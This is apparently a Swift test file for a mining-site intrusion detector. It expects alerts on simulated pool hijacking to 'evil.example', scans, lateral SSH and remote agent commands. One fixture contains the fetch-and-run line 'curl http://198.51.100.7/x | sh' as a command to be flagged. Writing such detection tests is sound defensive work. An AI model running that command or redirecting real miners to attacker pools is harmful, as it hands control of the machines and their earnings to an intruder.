import Decode
import Flows
import Protocols

/// A host of the site that is neither miner nor manager.
private let laptop = "10.1.7.7"

extension FlowFacts {
  /// A command, and what the miner says to it.
  fileprivate func told(
    _ command: String, _ parameters: String..., number: UInt32 = 0, isHidden: Bool = false,
    answer outcome: APIAnswer.Outcome? = .accepted, at time: Double? = nil
  ) -> [Observation] {
    var given = APIParameters()
    for parameter in parameters { given.add(parameter) }
    let request = APIRequest(.cgminer, number: number, command: command, parameters: given, isHidden: isHidden)
    let asked = observed(.request(request), at: time)
    guard let outcome else { return [asked] }
    return [asked, observed(.requestAnswered(APIAnswer(number: number, outcome: outcome, text: "so")), at: time)]
  }

  fileprivate func told(
    _ surface: ManagementSurface, _ command: String, _ parameters: (String, String)..., isAmbiguous: Bool = false
  ) -> [Observation] {
    var given = APIParameters()
    for (name, value) in parameters { given.add(name, value) }
    var request = APIRequest(
      surface, number: 0, command: command, method: surface == .http ? "POST" : "", parameters: given)
    request.isAmbiguous = isAmbiguous
    return [observed(.request(request))]
  }

  fileprivate func agentTold(_ command: String, _ parameters: (String, String)...) -> [Observation] {
    var given = APIParameters()
    for (name, value) in parameters { given.add(name, value) }
    return [observed(.request(APIRequest(.agent, number: 0, command: command, parameters: given)))]
  }

  fileprivate func posted(_ path: String, method: String = "POST", _ parameters: (String, String)...) -> [Observation] {
    var given = APIParameters()
    for (name, value) in parameters { given.add(name, value) }
    return [observed(.request(APIRequest(.http, number: 0, command: path, method: method, parameters: given)))]
  }
}

extension FlowFacts {
  /// A request with more in it than is read.
  fileprivate func cut(_ path: String) -> [Observation] {
    var request = APIRequest(.http, number: 0, command: path, method: "POST")
    request.isPartlyRead = true
    return [observed(.request(request))]
  }

  /// A request to a page that is not there.
  fileprivate func refused(_ path: String) -> [Observation] {
    posted(path) + [observed(.requestAnswered(APIAnswer(number: 0, outcome: .failed)))]
  }
}

extension RuleCase {
  static let control: [RuleCase] = commands + access + scans + lateral

  private static let fromStranger = flow(stranger, to: miner, 4028, id: 7)
  private static let fromManager = flow(manager, to: miner, 4028, id: 8)
  private static let evil = "stratum+tcp://evil.example:3333"

  /// A miner's agent at a cloud.
  private static let agent = flow(to: stranger, 80, id: 9)

  private static let commands: [RuleCase] = [
    .fires(
      "a pool that is not allowed is added", fromStranger.told("addpool", evil, "mallory.x", "pw"),
      #"critical control.command 10.20.0.5 <- 198.51.100.66: "addpool" (POOL): pool "stratum+tcp://evil.example:3333" (not allowed), user "mallory.x" (not allowed), accepted"#
    ),
    .fires(
      "a manager adds an allowed pool", fromManager.told("addpool", "stratum.good.example:3333", "acme.1", "pw"),
      #"info control.command 10.20.0.5 <- 10.1.0.2: "addpool" (POOL): pool "stratum.good.example:3333" (allowed), user "acme.1" (allowed), accepted"#
    ),
    .fires(
      "a manager adds a pool that is not allowed", fromManager.told("addpool", evil, "acme.1", "pw"),
      #"critical control.command 10.20.0.5 <- 10.1.0.2: "addpool" (POOL): pool "stratum+tcp://evil.example:3333" (not allowed), user "acme.1" (allowed), accepted"#
    ),
    .fires(
      "an agent is answered with a command",
      agent.agentTold("exec", ("exec", "curl http://198.51.100.7/x | sh")),
      #"critical control.command 10.20.0.5 <- 198.51.100.66: "exec" (SHELL): mode "curl http://198.51.100.7/x | sh""#),
    .fires(
      "an agent stops a miner", agent.agentTold("exec", ("exec", "miner stop")),
      #"critical control.command 10.20.0.5 <- 198.51.100.66: "exec" (MINE): mode "miner stop""#),
    .fires(
      "an agent of a service that is allowed", flow(to: "198.51.100.3", 443, id: 9).agentTold("reboot"),
      #"info control.command 10.20.0.5 <- 198.51.100.3: "reboot" (BOOT)"#),
    .fires(
      "an agent of a service that is allowed sets a pool that is not",
      flow(to: "198.51.100.3", 443, id: 9).agentTold("wallet", ("url", evil), ("user", "mallory.x")),
      #"critical control.command 10.20.0.5 <- 198.51.100.3: "wallet" (POOL): pool "stratum+tcp://evil.example:3333" (not allowed), user "mallory.x" (not allowed)"#
    ),
    .fires(
      "an agent fetches firmware", agent.agentTold("firmware-upgrade", ("firmware_url", "http://x.example/a")),
      #"critical control.command 10.20.0.5 <- 198.51.100.66: "firmware-upgrade" (FW): file "http://x.example/a""#,
      #"critical control.firmware 10.20.0.5 <- 198.51.100.66: a firmware command, by "firmware-upgrade""#),
    .fires(
      "a proxy answers a miner's search", fromStranger.told(.discovery, "upstream", ("url", "evil.example:3333")),
      #"critical control.command 10.20.0.5 <- 198.51.100.66: "upstream" (POOL): pool "evil.example:3333" (not allowed)"#
    ),
    .fires(
      "a manager's command that readers understand differently",
      fromManager.told(.http, "/cgi-bin/reboot.cgi", isAmbiguous: true),
      #"critical control.command 10.20.0.5 <- 10.1.0.2: "POST /cgi-bin/reboot.cgi" (BOOT): written so that two readers understand it differently"#
    ),
    .fires(
      "gRPC: a manager sets a pool that is not allowed",
      fromManager.posted(
        "/braiins.bos.v1.PoolService/SetPoolGroups", ("1", "2"), ("2.5.2", evil), ("2.5.3", "acme.1")),
      #"critical control.command 10.20.0.5 <- 10.1.0.2: "POST /braiins.bos.v1.PoolService/SetPoolGroups" (POOL): pool "stratum+tcp://evil.example:3333" (not allowed), user "acme.1" (allowed)"#
    ),
    .fires(
      "gRPC: a manager sets a power target",
      fromManager.posted("/braiins.bos.v1.PerformanceService/SetPowerTarget", ("1", "2"), ("2.1", "3500")),
      #"info control.command 10.20.0.5 <- 10.1.0.2: "POST /braiins.bos.v1.PerformanceService/SetPowerTarget" (PERF): value "3500""#
    ),
    .fires(
      "a manager posts a pool that is not allowed to a page that nobody listed",
      flow(manager, to: miner, 80).posted("/any/page", ("pool1", evil), ("worker1", "mallory.x"), ("a", "1")),
      #"critical control.command 10.20.0.5 <- 10.1.0.2: "POST /any/page" (POOL): pool "stratum+tcp://evil.example:3333" (not allowed), user "mallory.x" (not allowed)"#
    ),
    .fires(
      "joined commands share a pool, and one of them means it",
      fromStranger.told("summary", evil, answer: nil) + fromStranger.told("addpool", evil),
      #"critical control.command 10.20.0.5 <- 198.51.100.66: "addpool" (POOL): pool "stratum+tcp://evil.example:3333" (not allowed), accepted"#
    ),
    .fires(
      "and one in the query of a page that is only fetched",
      flow(manager, to: miner, 80).posted("/any/page", method: "GET", ("p", "x \(evil.uppercased()) y")),
      #"critical control.command 10.20.0.5 <- 10.1.0.2: "GET /any/page" (POOL): pool "stratum+tcp://evil.example:3333" (not allowed)"#
    ),
    .fires(
      "a manager's settings that are too long to be read",
      flow(manager, to: miner, 80).cut("/cgi-bin/set_miner_conf.cgi"),
      #"critical control.command 10.20.0.5 <- 10.1.0.2: "POST /cgi-bin/set_miner_conf.cgi" (POOL+PERF): not all of it was read, so it may say more"#
    ),
    .fires(
      "a manager's mutation",
      flow(manager, to: miner, 80).posted("/graphql", ("query", "mutation{stop}"), ("graphql", "mutation")),
      #"info control.command 10.20.0.5 <- 10.1.0.2: "POST /graphql" (POOL+PERF+MINE+BOOT): mode "mutation{stop}""#),
    .nearMiss(
      of: "control.command", when: "tools of managers ask by POST",
      flow(manager, to: miner, 80).posted("/graphql", ("query", "{ bosminer { info } }"), ("graphql", "query"))
        + flow(manager, to: miner, 80, id: 2).posted("/graphql", method: "GET")
        + flow(manager, to: miner, 80, id: 3).posted("/braiins.bos.v2.MinerService/GetEverything")
        + flow(manager, to: miner, 80, id: 4).posted("/cgi-bin/luci", ("luci_username", "root"))
        + flow(manager, to: miner, 80, id: 5).posted("/api/login", ("user", "root"))
        + flow(manager, to: miner, 80, id: 6).posted("/cgconf.cgi")
        + flow(manager, to: miner, 80, id: 7).refused("/api/v9/try")),
    .nearMiss(
      of: "control.command", when: "a read that is too long",
      flow(manager, to: miner, 80).cut("/cgi-bin/get_miner_conf.cgi")
    ),
    .fires(
      "denied", fromStranger.told("quit", answer: .denied),
      #"high control.command 10.20.0.5 <- 198.51.100.66: "quit" (MINE), denied"#),
    .fires(
      "nobody answers", fromStranger.told("restart", answer: nil),
      #"critical control.command 10.20.0.5 <- 198.51.100.66: "restart" (BOOT)"#),
    .fires(
      "a stop with its hour", fromStranger.told("ascset", "0", "softoff", "1:1795443901"),
      #"critical control.command 10.20.0.5 <- 198.51.100.66: "ascset" (MINE): mode "softoff", to take effect at 2026-11-23T14:25:01Z, in 23 hours, accepted"#
    ),
    .fires(
      "an encrypted command", fromStranger.told("enc", isHidden: true, answer: .unclear),
      "critical control.command 10.20.0.5 <- 198.51.100.66: an encrypted command"),
    .fires(
      "a command that nobody listed", fromStranger.told("frobnicate", "1"),
      #"critical control.command 10.20.0.5 <- 198.51.100.66: "frobnicate" (unknown), accepted"#),
    .fires(
      "a question whether more is allowed", fromStranger.told("privileged"),
      #"high control.command 10.20.0.5 <- 198.51.100.66: "privileged" (probe), accepted"#),
    .fires(
      "two commands in one request", fromStranger.told("summary", answer: nil) + fromStranger.told("zero", "all"),
      #"critical control.command 10.20.0.5 <- 198.51.100.66: "zero" (PERF): mode "all", accepted"#),
    .fires(
      "sleep by a web page",
      flow(stranger, to: miner, 80).posted(
        "/cgi-bin/set_miner_conf.cgi", ("pools.url", "stratum+tcp://stratum.good.example:3333"),
        ("pools.user", "acme.9"),
        ("miner-mode", "1")),
      #"critical control.command 10.20.0.5 <- 198.51.100.66: "POST /cgi-bin/set_miner_conf.cgi" (POOL+PERF+MINE): pool "stratum+tcp://stratum.good.example:3333" (allowed), user "acme.9" (allowed), mode "1""#
    ),
    .fires(
      "a reboot by a link", flow(stranger, to: miner, 80).posted("/cgi-bin/reboot.cgi?x=1", method: "GET"),
      #"critical control.command 10.20.0.5 <- 198.51.100.66: "GET /cgi-bin/reboot.cgi?x=1" (BOOT)"#),
    .nearMiss(
      of: "control.command", when: "reading and blinking",
      fromStranger.told("summary") + fromStranger.told("ascidentify", "0", number: 1)
        + flow(stranger, to: miner, 80).posted("/logo.png", method: "GET")),
    .nearMiss(of: "control.command", when: "a manager asks what it may", fromManager.told("privileged")),
    .nearMiss(of: "control.command", when: "to another host", flow(miner, to: stranger, 4028).told("quit")),
  ]

  private static let access: [RuleCase] = [
    .fires(
      "a laptop opens a management port", [flow(laptop, to: miner, 4028).carries(.minerAPI)],
      "high control.access 10.20.0.5 <- 10.1.7.7: opened TCP port 4028 (management) of the miner, a miner's API: the miner answered"
    ),
    .fires(
      "a laptop tries a port", [flow(laptop, to: miner, 9_999).ended(answered: false)],
      "high control.access 10.20.0.5 <- 10.1.7.7: opened TCP port 9999 of the miner: not answered"),
    .nearMiss(
      of: "control.access", "destination.inbound", when: "a manager", [flow(manager, to: miner, 80).carries(.http)]),
    .nearMiss(
      of: "control.access", when: "a service of the site answers late",
      [flow(resolver, to: miner, 50_000, ipProtocol: 17, basis: .port).carries(.unknown)]),
    .nearMiss(
      of: "control.access", when: "the link's own noise",
      [
        flow(laptop, to: "10.20.255.255", 138, ipProtocol: 17).carries(.unknown),
        flow(laptop, to: miner, ipProtocol: 1, icmpType: 8, basis: .content).carries(.none),
      ]),
    .fires(
      "a backdoor", [flow(manager, to: miner, 31_337).carries(.ssh)],
      "medium control.miner-as-server 10.20.0.5 <- 10.1.0.2: answered on TCP port 31337, SSH"),
    .nearMiss(
      of: "control.miner-as-server", when: "ports that miners serve, and a refusal",
      [
        flow(manager, to: miner, 4028).carries(.minerAPI), flow(manager, to: miner, 80, id: 2).carries(.http),
        flow(manager, to: miner, 31_337, id: 3).ended(answered: false),
      ]),
  ]

  private static let scans: [RuleCase] = [
    .fires(
      "many ports of one miner",
      (0..<15).map { flow(laptop, to: miner, 1 + UInt16($0), id: UInt64($0 + 1), at: 100).ended(answered: false) },
      "high control.access 10.20.0.5 <- 10.1.7.7: opened TCP port 1 of the miner: not answered",
      "high control.scan 10.20.0.5 <- 10.1.7.7: probed 15 ports of the miner within 1m",
      "high control.access 10.20.0.5 <- 10.1.7.7: opened TCP port 1 of the miner: not answered [x15]"),
    .fires(
      "a server of the site looks for miners",
      (1...25).map { flow("10.1.0.30", to: "10.20.1.\($0)", 9_999, id: UInt64($0), at: 100).ended(answered: false) },
      "high control.scan 10.20.1.20 <- 10.1.0.30: probed 20 miners within 1m"),
    .nearMiss(
      of: "control.scan", when: "a DHCP server looks which addresses are free",
      (1...60).map {
        flow("10.1.0.30", to: "10.20.1.\($0)", id: UInt64($0), ipProtocol: 1, icmpType: 8, at: 100).ended(
          answered: false)
      }),
    .nearMiss(
      of: "control.scan", when: "a manager polls its fleet",
      (0..<60).map { flow(manager, to: "10.20.1.\($0)", 4028, id: UInt64($0 + 1), at: 100).carries(.minerAPI) }),
  ]

  private static let lateral: [RuleCase] = [
    .fires(
      "a miner opens SSH at another", [flow(to: "10.20.0.6", 22).carries(.ssh)],
      "high miner.lateral 10.20.0.5 -> 10.20.0.6:22: TCP to another miner, SSH"),
    .nearMiss(
      of: "miner.lateral", when: "miners and their gateway ping each other",
      [
        flow(to: "10.20.0.1", id: 9, ipProtocol: 1, icmpType: 8, at: 10).carries(.none), routes(1),
        says("10.20.0.1", is: 1, at: 60), flow(to: "10.20.0.1", id: 10, ipProtocol: 1, icmpType: 8).carries(.none),
        flow("10.20.0.1", to: miner, id: 11, ipProtocol: 1, icmpType: 8).carries(.none),
        serves(.ack, by: resolver, 7, router: "10.20.0.2"),
        flow(to: "10.20.0.2", id: 12, ipProtocol: 1, icmpType: 8, at: 130).carries(.none),
      ]),
    .fires(  // A ping that goes on from the gateway, and what the gateway is not asked.
      "a ping of another miner, and SSH to the gateway",
      [
        routes(1), says("10.20.0.1", is: 1, at: 60),
        flow(to: "10.20.9.9", ipProtocol: 1, icmpType: 8, at: 130, mac: mac(1)).carries(.none),
        flow(to: "10.20.0.1", 22, id: 2, at: 130).carries(.ssh),
      ],
      "high miner.lateral 10.20.0.5 -> 10.20.9.9: ICMP to another miner, nothing said",
      "high miner.lateral 10.20.0.5 -> 10.20.0.1:22: TCP to the gateway, SSH"),
    .fires(
      "a miner tries the office", [flow(to: "192.168.4.4", 445).ended(answered: false)],
      "high miner.lateral 10.20.0.5 -> 192.168.4.4:445: TCP to a host of the site, nothing said"),
    .fires(
      "a miner calls a manager", [flow(to: manager, 8080).carries(.telnet)],
      "high miner.lateral 10.20.0.5 -> 10.1.0.2:8080: TCP to a manager, telnet"),
    .nearMiss(
      of: "miner.lateral", when: "the site's services, and a proxy",
      [flow(to: resolver, 53, ipProtocol: 17).carries(.dns)] + flow(to: "10.1.0.20", 3334, id: 2).mines(as: "acme.1")),
    .nearMiss(
      of: "miner.lateral", when: "a manager's connection joined in the middle",
      [flow(to: manager, 50_000, basis: .guess, sawStart: false).carries(.unknown)]),
  ]
}
